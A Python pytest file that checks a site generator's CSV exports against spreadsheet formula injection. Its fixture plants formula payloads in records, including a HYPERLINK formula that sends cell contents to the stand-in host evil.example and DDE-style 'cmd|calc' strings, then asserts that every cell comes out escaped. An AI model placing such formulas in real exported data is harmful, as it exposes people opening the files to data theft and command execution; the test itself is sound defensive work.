"""CSV downloads are safe to open in a spreadsheet (issue 17, point 3): a site whose records carry
formulas in text fields (and the indicator operator `=`) is built, and every cell of every CSV it ships
is read back: none starts a formula, numbers stay numbers, the JSON keeps the true value, and the data
package still validates."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from frictionless import Package

from generator.build import build
from generator.site.csvsafe import FORMULA_START, cell
from tests.fixtures_site import GOAL, GOAL_PATH, make_site

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
EVIL_GOAL = (GOAL.replace("summary: 资助家庭经济困难学生，保障其顺利完成学业。", f"summary: '{FORMULA}'")
             .replace("agency: 内蒙古自治区学生资助管理中心", "agency: '@SUM(1+1)*cmd|'' /C calc''!A0'")
             .replace("overall_goal: 健全学生资助体系，做到应助尽助。", "overall_goal: '+1+cmd|calc'")
             .replace("name: 资助学生人次, operator: \"≥\"", "name: '-2+3', operator: \"=\""))


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("csvsafe")
    root = make_site(tmp / "repo", {GOAL_PATH: EVIL_GOAL})
    out = tmp / "site"
    build(root, out)
    return out


def _cells(site: Path):
    for path in sorted(site.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    yield path.relative_to(site).as_posix(), value


def test_no_cell_of_any_csv_starts_a_formula(built):
    cells = list(_cells(built))
    assert any(f.startswith("data/") for f, _ in cells) and any(f.startswith("records/") for f, _ in cells)
    assert any(f.startswith("log/") for f, _ in cells)
    unsafe = [(f, v) for f, v in cells if v.startswith(FORMULA_START) and not _number(v)]
    assert unsafe == []
    values = {v for _, v in cells}
    assert "'" + FORMULA in values and "'=" in values and "'-2+3" in values and "'+1+cmd|calc" in values


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers():
    assert cell("-12.5") == "-12.5" and cell("+3") == "+3" and cell("-0.5") == "-0.5"
    assert cell("-1+1") == "'-1+1" and cell("\t=1") == "'\t=1" and cell("@A1") == "'@A1"
    assert cell("普通文字 = 1") == "普通文字 = 1"


def test_json_keeps_the_true_value(built):
    data = json.loads((built / "records" / "jyt-2026-goal-xszz" / "jyt-2026-goal-xszz.json").read_text("utf-8"))
    assert data["fields"]["summary"] == FORMULA
    assert any(row["operator"] == "=" and row["name"] == "-2+3" for row in data["indicators"])


def test_data_package_still_validates(built):
    report = Package(str(built / "data" / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
    package = json.loads((built / "data" / "datapackage.json").read_text(encoding="utf-8"))
    assert "英文单引号" in package["description"]
